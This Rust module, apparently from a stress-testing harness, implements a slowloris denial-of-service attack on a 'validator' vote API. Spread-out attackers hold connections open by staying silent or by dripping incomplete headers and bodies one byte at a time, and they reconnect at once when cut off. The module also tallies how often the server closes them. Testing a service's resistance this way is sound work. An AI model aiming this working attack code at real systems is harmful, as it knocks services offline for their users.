//! Connections that are held open by as little as possible: silence, headers that drip in, bodies
//! that drip in. An attacker who is cut off connects again at once.

use std::io;
use std::net::{Ipv4Addr, SocketAddr};
use std::time::Duration;

use serde::Serialize;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::Instant;

use super::connection::connect;
use super::swarm::{Stop, Swarm, address};

/// Pause between two bytes.
const DRIP: Duration = Duration::from_secs(1);
/// Pause after a connection that could not be made.
const REFUSED: Duration = Duration::from_millis(200);
/// The first connections of all attackers are spread over this time.
const SPREAD: Duration = Duration::from_secs(2);

const HEAD: &[u8] = b"POST /api/v1/vote HTTP/1.1\r\nHost: x\r\nX-Slow: ";
const BODY: &[u8] = b"POST /api/v1/vote HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n\
    Content-Length: 300\r\n\r\n{";

/// How a connection is held open.
#[derive(Clone, Copy)]
enum Manner {
    /// The client sends nothing at all.
    Silence,
    /// A header is never finished.
    Header,
    /// A body is never finished.
    Body,
}

impl Manner {
    const ALL: [Manner; 3] = [Manner::Silence, Manner::Header, Manner::Body];

    /// What is sent at once, before single bytes drip in.
    fn beginning(self) -> &'static [u8] {
        match self {
            Manner::Silence => b"",
            Manner::Header => HEAD,
            Manner::Body => BODY,
        }
    }
}

/// What became of the connections.
#[derive(Clone, Copy, Debug, Default, Serialize)]
pub struct Held {
    /// Silent connections that the validator closed.
    pub silence_cut_off: u64,
    /// Connections with an unfinished header that the validator closed.
    pub header_cut_off: u64,
    /// Connections with an unfinished body that the validator closed.
    pub body_cut_off: u64,
    /// Connections that could not be made.
    pub not_connected: u64,
    /// The longest life of a connection, milliseconds.
    pub held_ms_max: u64,
}

impl Held {
    fn cut_off(&mut self, manner: Manner) {
        match manner {
            Manner::Silence => self.silence_cut_off += 1,
            Manner::Header => self.header_cut_off += 1,
            Manner::Body => self.body_cut_off += 1,
        }
    }

    /// Connections that ended before the attack did, or could not be made.
    fn ended(&self) -> u64 {
        self.silence_cut_off + self.header_cut_off + self.body_cut_off + self.not_connected
    }

    fn add(&mut self, other: Held) {
        self.silence_cut_off += other.silence_cut_off;
        self.header_cut_off += other.header_cut_off;
        self.body_cut_off += other.body_cut_off;
        self.not_connected += other.not_connected;
        self.held_ms_max = self.held_ms_max.max(other.held_ms_max);
    }
}

/// What slowloris came to.
#[derive(Clone, Copy, Debug, Serialize)]
pub struct Slowloris {
    /// Connections a second that ended, and so were made anew.
    pub per_s: f64,
    /// What became of them.
    pub met: Held,
}

impl Slowloris {
    /// What all attackers met in an attack that `lasted` so long.
    pub(super) fn sum(met: Vec<Held>, lasted: Duration) -> Slowloris {
        let mut sum = Held::default();
        met.into_iter().for_each(|held| sum.add(held));
        #[allow(clippy::cast_precision_loss)] // below 2^53
        let per_s = (sum.ended() as f64 / lasted.as_secs_f64()).round();
        Slowloris { per_s, met: sum }
    }
}

/// Attackers that each hold one of `connections` connections open.
pub(super) fn start(to: SocketAddr, connections: u32) -> Swarm<Held> {
    let mut swarm = Swarm::new();
    for n in 0..connections {
        let manner = Manner::ALL[n as usize % Manner::ALL.len()];
        let wait = SPREAD * n / connections;
        swarm.spawn(hold(to, address(n), manner, wait, swarm.stop()));
    }
    swarm
}

async fn hold(
    to: SocketAddr,
    source: Ipv4Addr,
    manner: Manner,
    wait: Duration,
    mut stop: Stop,
) -> Held {
    let mut held = Held::default();
    if stop.or(tokio::time::sleep(wait)).await.is_none() {
        return held;
    }
    loop {
        let started = Instant::now();
        let ended = stop.or(once(to, source, manner.beginning())).await;
        if let Some(Err(_)) = ended {
            held.not_connected += 1;
            tokio::time::sleep(REFUSED).await;
            continue;
        }
        let ms = u64::try_from(started.elapsed().as_millis())
            .expect("an attack ends within 500 million years");
        held.held_ms_max = held.held_ms_max.max(ms);
        if ended.is_none() {
            return held;
        }
        held.cut_off(manner);
    }
}

/// One connection until the server closes it.
///
/// # Errors
/// It could not be made.
async fn once(to: SocketAddr, source: Ipv4Addr, beginning: &[u8]) -> io::Result<()> {
    let mut stream = connect(to, source).await?;
    let (mut from_server, mut to_server) = stream.split();
    let drips = async {
        to_server.write_all(beginning).await?;
        loop {
            tokio::time::sleep(DRIP).await;
            if !beginning.is_empty() {
                to_server.write_all(b"a").await?;
            }
        }
        #[allow(unreachable_code, reason = "gives the block its type")]
        Ok::<(), io::Error>(())
    };
    let closed = async {
        let mut bytes = [0; 1_024];
        // An answer, such as 408, may come before the end.
        while from_server
            .read(&mut bytes)
            .await
            .is_ok_and(|count| count > 0)
        {}
    };
    tokio::select! {
        _ = drips => {}
        () = closed => {}
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn connections_are_summed_and_the_longest_kept() {
        let one = Held {
            silence_cut_off: 1,
            header_cut_off: 2,
            body_cut_off: 3,
            not_connected: 4,
            held_ms_max: 5_000,
        };
        let other = Held {
            held_ms_max: 4_000,
            ..one
        };
        let sum = Slowloris::sum(vec![one, other], Duration::from_secs(2));
        assert_eq!((sum.per_s, sum.met.held_ms_max), (10.0, 5_000));
        assert_eq!((sum.met.header_cut_off, sum.met.not_connected), (4, 8));
    }
}
